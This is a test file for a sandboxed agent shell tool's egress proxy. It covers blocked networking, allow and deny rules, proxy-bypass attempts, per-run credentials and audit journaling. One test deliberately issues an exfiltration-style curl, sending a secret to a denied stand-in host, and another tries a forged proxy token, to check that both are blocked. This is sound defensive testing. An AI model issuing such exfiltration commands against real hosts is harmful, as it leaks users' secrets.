import { spawn } from 'node:child_process';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { RUN_CONTEXT_META_KEY, SANDBOX_PROFILE_META_KEY } from '../../gateway/upstreams/shell.js';
import { createEgressProxy, type EgressDecisionEvent, type EgressProxy, type EgressRequest } from '../../gateway/sandbox/index.js';
import { connect, loopbackServer, makeWorkspace, text, type Connected, type Workspace } from './harness.js';

describe('network none', () => {
  let w: Workspace;
  let c: Connected;
  let srv: Awaited<ReturnType<typeof loopbackServer>>;
  beforeAll(async () => {
    w = await makeWorkspace();
    c = await connect(w, {});
    srv = await loopbackServer();
  });
  afterAll(async () => {
    await c.close();
    await srv.close();
    await w.cleanup();
  });

  it('cannot reach a loopback server on the host', async () => {
    const r = await c.call({ command: `curl -sS --max-time 5 http://127.0.0.1:${srv.port}/direct` });
    expect(r.isError).toBe(true);
    expect(text(r)).toMatch(/Failed to connect|Couldn't connect/);
    expect(srv.hits).toEqual([]);
  });
});

describe('network through the egress proxy', () => {
  let w: Workspace;
  let c: Connected;
  let proxy: EgressProxy;
  let srv: Awaited<ReturnType<typeof loopbackServer>>;
  const asked: EgressRequest[] = [];
  const decisions: EgressDecisionEvent[] = [];

  beforeAll(async () => {
    w = await makeWorkspace();
    srv = await loopbackServer();
    proxy = await createEgressProxy({
      // The test's explicit rule: loopback test hosts allowed, *.denied.test blocked.
      decide: async (req) => {
        asked.push(req);
        await new Promise((r) => setTimeout(r, 20));
        if (req.host === '127.0.0.1' || req.host === 'localhost') return { allow: true, reason: 'test rule: loopback test server' };
        return { allow: false, reason: 'domain is on the denied list' };
      },
      onDecision: (e) => {
        decisions.push(e);
      },
    });
    c = await connect(w, { network: 'proxy' }, { egress: proxy });
  });
  afterAll(async () => {
    await c.close();
    await proxy.close();
    await srv.close();
    await w.cleanup();
  });

  it('advertises open-world annotations', async () => {
    const { tools } = await c.client.listTools();
    expect(tools[0]!.annotations?.openWorldHint).toBe(true);
  });

  it('reaches an allowed loopback server over plain HTTP and through CONNECT', async () => {
    const r = await c.call({ command: `curl -sS --max-time 10 http://127.0.0.1:${srv.port}/plain && curl -sS --max-time 10 --proxytunnel http://127.0.0.1:${srv.port}/tunnel` });
    expect(text(r)).toContain('Exit code: 0');
    expect(srv.hits).toEqual(['GET /plain', 'GET /tunnel']);
    expect(decisions.filter((d) => d.host === '127.0.0.1').map((d) => [d.protocol, d.method, d.decision])).toEqual([
      ['http', 'GET', 'allow'],
      ['https', 'CONNECT', 'allow'],
    ]);
  });

  it('still cannot bypass the proxy', async () => {
    const before = srv.hits.length;
    const r = await c.call({ command: `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${srv.port}/bypass` });
    expect(r.isError).toBe(true);
    expect(srv.hits.length).toBe(before);
  });

  it('blocks a denied host with a 403 that names it, and reports the decision', async () => {
    const r = await c.call({ command: 'curl -sS --max-time 10 http://exfil.denied.test/upload?secret=abc; curl -sS --max-time 10 https://exfil.denied.test/x' });
    expect(text(r)).toContain('Tollgate blocked network access to exfil.denied.test:80 (http): domain is on the denied list');
    expect(text(r)).toMatch(/CONNECT tunnel failed, response 403/);
    const denied = decisions.filter((d) => d.host === 'exfil.denied.test');
    expect(denied.map((d) => [d.port, d.decision])).toEqual([[80, 'deny'], [443, 'deny']]);
    // Host, port, protocol and method only: never the path or query.
    expect(JSON.stringify(decisions)).not.toContain('secret=abc');
  });

  it('asks once per host:port, also for concurrent requests', async () => {
    const r = await c.call({
      command: `for i in 1 2 3; do curl -sS --max-time 10 -o /dev/null http://localhost:${srv.port}/again$i & done; wait; curl -sS --max-time 10 http://localhost:${srv.port}/last`,
    });
    expect(text(r)).toContain('hello from the loopback test server');
    expect(asked.filter((a) => a.host === 'localhost')).toHaveLength(1);
    const fromCache = decisions.filter((d) => d.host === 'localhost');
    expect(fromCache).toHaveLength(4);
    expect(fromCache.filter((d) => !d.cached)).toHaveLength(1);
  });
});

describe('egress decisions the journal cannot record', () => {
  it('refuses the connection even though policy allows it, and says why', async () => {
    const w = await makeWorkspace();
    const srv = await loopbackServer();
    const proxy = await createEgressProxy({
      decide: async () => ({ allow: true, reason: 'test rule: allowed' }),
      onDecision: async () => {
        throw new Error('audit journal write failed (ENOSPC); refusing further records');
      },
    });
    const c = await connect(w, { network: 'proxy' }, { egress: proxy });
    try {
      const r = await c.call({ command: `curl -sS --max-time 10 http://127.0.0.1:${srv.port}/plain; curl -sS --max-time 10 --proxytunnel http://127.0.0.1:${srv.port}/tunnel` });
      expect(text(r)).toMatch(/Tollgate blocked network access to 127\.0\.0\.1:\d+ \(http\): the decision could not be journaled \(audit journal write failed/);
      expect(srv.hits).toEqual([]); // neither the plain request nor the tunnel got through
    } finally {
      await c.close();
      await proxy.close();
      await srv.close();
      await w.cleanup();
    }
  });
});

describe('every connection belongs to one run', () => {
  let w: Workspace;
  let srv: Awaited<ReturnType<typeof loopbackServer>>;
  let proxy: EgressProxy;
  const decisions: EgressDecisionEvent[] = [];
  // What the pipeline hands the shell server for a call: whose it is.
  const who = { sessionId: 'session-a', callId: 'call-a', identity: 'token:alice', client: { name: 'test-agent', version: '1.0.0' }, tool: 'sh__exec' };

  beforeAll(async () => {
    w = await makeWorkspace();
    srv = await loopbackServer();
    proxy = await createEgressProxy({
      decide: async (req) => (req.host === '127.0.0.1' ? { allow: true, reason: 'test rule: loopback test server' } : { allow: false, reason: 'not on the test list' }),
      onDecision: (e) => {
        decisions.push(e);
      },
    });
  });
  afterAll(async () => {
    await proxy.close();
    await srv.close();
    await w.cleanup();
  });

  const until = async (ok: () => boolean) => {
    for (let i = 0; i < 200 && !ok(); i++) await new Promise((r) => setTimeout(r, 25));
    expect(ok()).toBe(true);
  };
  /** curl on the host (outside any sandbox), through the proxy's loopback port with the given proxy URL. */
  const hostCurl = (proxyUrl: string, p: string) =>
    new Promise<{ code: number | null; out: string }>((resolve) => {
      const child = spawn('curl', ['-sS', '--max-time', '10', '-o', '-', '-w', '\n%{http_code}', '-x', proxyUrl, `http://127.0.0.1:${srv.port}/${p}`]);
      let out = '';
      child.stdout.on('data', (d: Buffer) => (out += d.toString()));
      child.stderr.on('data', (d: Buffer) => (out += d.toString()));
      child.on('close', (code) => resolve({ code, out }));
    });

  it("journals a sandboxed run's connections with its call's session, call id, identity and client", async () => {
    const c = await connect(w, { network: 'proxy' }, { egress: proxy });
    try {
      const r = (await c.client.callTool({
        name: 'exec',
        arguments: { command: `curl -sS --max-time 10 http://127.0.0.1:${srv.port}/mine; ls -A /run/tollgate-egress; ls -A ${proxy.dir} 2>&1 | head -3` },
        _meta: { [SANDBOX_PROFILE_META_KEY]: 'workspace-write', [RUN_CONTEXT_META_KEY]: who },
      })) as CallToolResult;
      expect(text(r)).toContain('hello from the loopback test server');
      // Inside: this run's socket and the bridge, never the proxy's directory (other runs' sockets).
      expect(text(r)).toContain('bridge.cjs\nproxy.sock\n');
      expect(text(r)).not.toContain('run-');
      const mine = decisions.filter((d) => d.run?.callId === 'call-a');
      expect(mine).toEqual([expect.objectContaining({ host: '127.0.0.1', decision: 'allow', run: expect.objectContaining({ ...who, server: 'sh', id: expect.any(String) }) })]);
      expect(mine[0]!.run).not.toHaveProperty('command'); // the script may carry URLs and secrets: never in the journal
    } finally {
      await c.close();
    }
  });

  it('refuses a connection to the proxy without a valid per-run identity (407), and journals the refusal', async () => {
    const none = await hostCurl(proxy.origin, 'no-identity');
    expect(none.out).toMatch(/407$/);
    expect(none.out).toContain('no valid per-run identity');
    const forged = await hostCurl(proxy.origin.replace('http://', 'http://tollgate-run:forged-token@'), 'forged');
    expect(forged.out).toMatch(/407$/);
    expect(srv.hits.filter((h) => /no-identity|forged/.test(h))).toEqual([]);
    const refused = decisions.filter((d) => d.source === 'identity');
    expect(refused.map((d) => [d.host, d.decision, d.run])).toEqual([['127.0.0.1', 'deny', undefined], ['127.0.0.1', 'deny', undefined]]);

    // A run's own credential works while it runs, and not a moment after.
    const run = await proxy.openRun({ server: 'sh', ...who, callId: 'call-b' });
    const ok = await hostCurl(run.url, 'with-identity');
    expect(ok.out).toMatch(/hello from the loopback test server\n+200$/);
    await run.close('the command exited with code 0');
    const after = await hostCurl(run.url, 'after-the-run');
    expect(after.out).toMatch(/407$/);
    expect(srv.hits).toContain('GET /with-identity');
    expect(srv.hits).not.toContain('GET /after-the-run');
  });

  it("cuts a tunnel opened with a run's credential when the run ends", async () => {
    const run = await proxy.openRun({ server: 'sh', ...who, callId: 'call-d' });
    const auth = Buffer.from(new URL(run.url).username + ':' + new URL(run.url).password).toString('base64');
    const sock = net.connect(Number(new URL(proxy.origin).port), '127.0.0.1');
    let got = '';
    sock.on('data', (d: Buffer) => (got += d.toString()));
    const closed = new Promise<void>((r) => sock.on('close', () => r()));
    sock.write(`CONNECT 127.0.0.1:${srv.port} HTTP/1.1\r\nHost: 127.0.0.1:${srv.port}\r\nProxy-Authorization: Basic ${auth}\r\n\r\n`);
    await until(() => got.includes('200 Connection Established'));
    await run.close('the command exited with code 0');
    await closed; // the open tunnel does not outlive its command
    expect(decisions.filter((d) => d.run?.callId === 'call-d').map((d) => [d.method, d.decision])).toEqual([['CONNECT', 'allow']]);
  });

  it('ends a question still waiting for a person when its command ends, before the call returns', async () => {
    const waiting = await createEgressProxy({
      // A person who never answers: the question waits until the run's signal says the command ended.
      decide: (_req, run) =>
        new Promise((resolve) => run.signal.addEventListener('abort', () => resolve({ allow: false, source: 'withdrawn', reason: `withdrawn: ${run.endReason}` }), { once: true })),
      onDecision: async (e) => {
        await new Promise((r) => setTimeout(r, 50)); // a journal that takes its time
        decisions.push(e);
      },
    });
    const c = await connect(w, { network: 'proxy' }, { egress: waiting });
    try {
      const r = (await c.client.callTool({
        name: 'exec',
        arguments: { command: `curl -sS --max-time 30 http://127.0.0.1:${srv.port}/never-answered`, timeoutSeconds: 2 },
        _meta: { [SANDBOX_PROFILE_META_KEY]: 'workspace-write', [RUN_CONTEXT_META_KEY]: { ...who, callId: 'call-c' } },
      })) as CallToolResult;
      expect(r.structuredContent).toMatchObject({ timedOut: true });
      // Already journaled when the result came back.
      expect(decisions.filter((d) => d.run?.callId === 'call-c')).toEqual([
        expect.objectContaining({ decision: 'deny', source: 'withdrawn', reason: 'withdrawn: the command timed out after 2 s and was killed' }),
      ]);
      expect(srv.hits).not.toContain('GET /never-answered');
    } finally {
      await c.close();
      await waiting.close();
    }
  });
});
